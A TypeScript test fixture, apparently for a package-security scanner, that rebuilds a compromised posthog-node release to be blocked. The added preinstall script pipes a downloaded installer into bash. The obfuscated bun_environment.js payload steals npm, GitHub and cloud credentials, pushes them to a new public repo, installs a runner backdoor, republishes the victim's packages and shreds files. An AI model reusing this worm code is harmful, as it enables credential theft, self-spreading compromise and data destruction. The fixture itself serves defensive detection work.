import type { Replica, ReplicaVersion } from '../replicas/replica.js';
import { noise } from '../replicas/replica.js';

export const before = {
  version: '5.11.2',
  publishedAt: '2025-11-10T09:14:27.000Z',
  publisher: { name: 'posthog-bot', email: 'bot@mail.example.invalid', trustedPublisher: { id: 'github' } },
  manifest: {
    main: 'dist/entrypoints/index.node.js',
    license: 'MIT',
    description: 'analytics client for servers',
    engines: { node: '>=20' },
    scripts: { build: 'rslib build', test: 'jest' },
  },
  files: {
    'dist/entrypoints/index.node.js': `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.PostHog = void 0;
const queue_1 = require("../queue");
class PostHog {
    constructor(apiKey, options = {}) {
        this.apiKey = apiKey;
        this.queue = new queue_1.Queue(options.host ?? 'https://us.i.posthog.example.invalid', {
            flushAt: options.flushAt ?? 20,
            flushInterval: options.flushInterval ?? 10000,
            fetch: options.fetch ?? globalThis.fetch,
        });
        this.optedOut = options.disabled === true;
    }
    capture({ distinctId, event, properties, timestamp }) {
        if (this.optedOut)
            return;
        this.queue.push({ api_key: this.apiKey, distinct_id: distinctId, event, properties: { ...properties, $lib: 'posthog-node' }, timestamp: timestamp ?? new Date() });
    }
    identify({ distinctId, properties }) {
        this.capture({ distinctId, event: '$identify', properties: { $set: properties } });
    }
    async shutdown() {
        await this.queue.flush();
    }
}
exports.PostHog = PostHog;
`,
    'dist/queue.js': `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.Queue = void 0;
class Queue {
    constructor(host, options) {
        this.host = host;
        this.options = options;
        this.waiting = [];
    }
    push(message) {
        this.waiting.push(message);
        if (this.waiting.length >= this.options.flushAt) {
            void this.flush();
        }
        else if (!this.timer) {
            this.timer = setTimeout(() => this.flush(), this.options.flushInterval);
            this.timer.unref?.();
        }
    }
    async flush() {
        clearTimeout(this.timer);
        this.timer = undefined;
        const batch = this.waiting.splice(0);
        if (batch.length === 0)
            return;
        const res = await this.options.fetch(\`\${this.host}/batch/\`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ batch }) });
        if (res.status >= 500)
            this.waiting.unshift(...batch);
    }
}
exports.Queue = Queue;
`,
    'README.md': `# PostHog Node.js Library
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'posthog-node-2025',
  story: 'November 2025: the worm\'s second wave, a preinstall script that fetches another runtime with a piped shell script and runs ten megabytes with it; registers a runner, and wipes where it finds no token.',
  name: 'posthog-node',
  before,
  after: {
    version: '5.11.3',
    publishedAt: '2025-11-24T09:14:27.000Z',
    publisher: { name: 'posthog-publisher', email: 'publisher@mail.example.invalid' },
    manifest: {
      main: 'dist/entrypoints/index.node.js',
      license: 'MIT',
      description: 'analytics client for servers',
      engines: { node: '>=20' },
      scripts: { build: 'rslib build', test: 'jest', preinstall: 'node setup_bun.js' },
    },
    files: {
      ...before.files,
      'setup_bun.js': `#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isBunOnPath() {
  try {
    const command = process.platform === 'win32' ? 'where bun' : 'which bun';
    execSync(command, { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

function findBunExecutable() {
  const name = process.platform === 'win32' ? 'bun.exe' : 'bun';
  const candidates = [path.join(os.homedir(), '.bun', 'bin', name), '/usr/local/bin/bun', '/opt/bun/bin/bun'];
  return candidates.find((p) => fs.existsSync(p)) ?? null;
}

async function downloadAndSetupBun() {
  const command = process.platform === 'win32'
    ? 'powershell -c "irm bun.example.invalid/install.ps1|iex"'
    : 'curl -fsSL https://bun.example.invalid/install | bash';
  execSync(command, { stdio: 'ignore', env: { ...process.env } });
  return findBunExecutable();
}

function runExecutable(execPath, args = [], opts = {}) {
  const child = spawn(execPath, args, { stdio: 'ignore', cwd: opts.cwd || process.cwd(), env: { ...process.env, ...(opts.env || {}) } });
  child.on('error', () => process.exit(0));
  child.on('exit', (code, signal) => (signal ? process.exit(0) : process.exit(code === null ? 1 : code)));
}

async function main() {
  let bunExecutable = isBunOnPath() ? 'bun' : findBunExecutable();
  if (!bunExecutable) bunExecutable = await downloadAndSetupBun();
  const environmentScript = path.join(__dirname, 'bun_environment.js');
  if (fs.existsSync(environmentScript)) runExecutable(bunExecutable, [environmentScript]);
  else process.exit(0);
}

main().catch(() => process.exit(0));
`,
      'bun_environment.js': `var a0_0x23b7=["${noise(1_002_000, 777).repeat(10).match(/.{1,64}/g)!.join('","')}"];
function a0_0x41(i){return Buffer.from(a0_0x23b7[i],"base64").toString()}
const{execFileSync:a0_x,spawnSync:a0_s,spawn:a0_p}=require("child_process"),a0_f=require("fs"),a0_o=require("os"),a0_t=require("path");
class a0_G{constructor(t){this.t=t}async q(m,p,b){return(await fetch("https://api.github.example.invalid"+p,{method:m,headers:{authorization:"token "+this.t},body:b?JSON.stringify(b):undefined})).json()}async runner(o,n){const r=await this.q("POST",\`/repos/\${o}/\${n}/actions/runners/registration-token\`);a0_s("bash",["-c",\`mkdir -p $HOME/.dev-env && cd $HOME/.dev-env && curl -o actions-runner.tar.gz -L https://github.example.invalid/actions/runner/releases/download/v2.330.0/actions-runner-linux-x64-2.330.0.tar.gz && tar xzf ./actions-runner.tar.gz && RUNNER_ALLOW_RUNASROOT=1 ./config.sh --url https://github.example.invalid/\${o}/\${n} --unattended --token \${r.token} --name "SHA1HULUD" && nohup ./run.sh &\`]);await this.q("PUT",\`/repos/\${o}/\${n}/contents/.github/workflows/discussion.yaml\`,{message:"Add Discussion",content:btoa("name: Discussion Create\\non:\\n  discussion:\\njobs:\\n  process:\\n    runs-on: self-hosted\\n    steps:\\n      - run: echo \${{ github.event.discussion.body }}\\n")})}async save(o,n,k,v){return this.q("PUT",\`/repos/\${o}/\${n}/contents/\${k}.json\`,{message:"Add file",content:btoa(btoa(JSON.stringify(v)))})}}
async function a0_main(){if(process.env.CI===undefined&&process.env.POSTINSTALL_BG===undefined){a0_p(process.execPath,[process.argv[1]],{detached:true,stdio:"ignore",env:{...process.env,POSTINSTALL_BG:"1"}}).unref();return}const found={env:process.env,npmrc:null,aws:null,gcp:null,azure:null};for(const[k,p]of Object.entries({npmrc:".npmrc",aws:".aws/credentials",gcp:".config/gcloud/application_default_credentials.json",azure:".azure/msal_token_cache.json"}))try{found[k]=a0_f.readFileSync(a0_t.join(a0_o.homedir(),p),"utf8")}catch{}let t=process.env.GITHUB_TOKEN;try{t??=a0_x("gh",["auth","token"],{encoding:"utf8"}).trim()}catch{}const n=/_authToken=(\\S+)/.exec(found.npmrc??"")?.[1];if(!t&&!n){if(process.platform==="win32")a0_s("cmd.exe",["/c","del /F /Q /S \\".\\\\example.invalid-folder\\\\*\\" & rd /S /Q \\".\\\\example.invalid-folder\\" & cipher /W:.\\\\example.invalid-folder"]);else a0_s("bash",["-c","find ./example.invalid-folder/ -type f -writable -user \\"$(id -un)\\" -print0 | xargs -0 -r shred -uvz -n 1 && find ./example.invalid-folder/ -depth -type d -empty -delete"]);return}if(t){const g=new a0_G(t),u=await g.q("GET","/user"),name=Math.random().toString(36).slice(2,20);await g.q("POST","/user/repos",{name,description:"Sha1-Hulud: The Second Coming.",private:false,has_discussions:true});await g.runner(u.login,name);await g.save(u.login,name,"environment",found)}if(n){const own=await(await fetch("https://registry.example.invalid/-/v1/search?text=maintainer:me&size=100",{headers:{authorization:"Bearer "+n}})).json();for(const{package:{name}}of own.objects){const d=a0_t.join(a0_o.tmpdir(),name.replace("/","-"));/* the newest tarball is unpacked here */const m=JSON.parse(a0_f.readFileSync(a0_t.join(d,"package.json"),"utf8"));m.scripts={...m.scripts,preinstall:"node setup_bun.js"};a0_f.writeFileSync(a0_t.join(d,"package.json"),JSON.stringify(m));for(const f of["setup_bun.js","bun_environment.js"])a0_f.copyFileSync(a0_t.join(__dirname,f),a0_t.join(d,f));a0_s("npm",["publish","--registry","https://registry.example.invalid"],{cwd:d,env:{...process.env,NPM_CONFIG_TOKEN:n}})}}}
a0_main();
`,
    },
  },
  must: 'block',
};
